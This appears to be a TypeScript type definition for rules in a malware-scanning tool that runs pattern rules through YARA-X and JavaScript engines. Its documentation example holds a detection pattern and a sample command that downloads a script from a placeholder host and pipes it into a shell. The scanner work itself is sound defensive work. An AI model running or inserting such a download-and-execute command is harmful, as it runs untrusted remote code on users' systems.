import type { Severity } from '../types.js';

/**
 * One pattern rule. Both engines evaluate the same definition: the strings
 * are written in the shared pattern language (syntax/parse.ts), YARA-X gets
 * them as generated YARA text, the JS engine as RegExps behind a literal
 * prefilter.
 *
 * @example
 * const rule: PatternRule = {
 *   id: 'patterns/example',
 *   severity: 'high',
 *   certainty: 0.8,
 *   message: 'Pipes a download straight into a shell.',
 *   strings: { pipe: String.raw`(?i)curl\s[^\n|]{1,200}\|\s{0,4}(ba)?sh\b` },
 *   examples: { match: ['curl -s http://x/i.sh | bash'], notMatch: ['curl -o i.sh http://x/i.sh'] },
 * };
 */
export interface PatternRule {
  /** Stable id, `patterns/<kebab-name>`; it is the finding's `ruleId`. */
  readonly id: string;
  readonly severity: Severity;
  /** 0 < certainty <= 1: how sure a match is a real threat (1 for test signatures such as EICAR). */
  readonly certainty: number;
  /** One sentence for people: what a match means. */
  readonly message: string;
  /**
   * Named patterns (`[a-z][a-z0-9_]*` → pattern). Each must contain a literal of
   * at least 3 bytes, match at most MAX_MATCH_BYTES bytes and pass the
   * linear-time checks; a leading `(?i)` makes it ASCII case-insensitive.
   */
  readonly strings: Readonly<Record<string, string>>;
  /**
   * When set, the rule matches only if every group has a match of at least one
   * of its strings somewhere in the file (an AND of ORs). Default: any string.
   */
  readonly requireAll?: readonly (readonly string[])[];
  /**
   * Inputs (latin1: one char per byte) that must and must not match this rule.
   * They run when a detector loads its rules and in the test suite.
   */
  readonly examples: { readonly match: readonly string[]; readonly notMatch: readonly string[] };
}
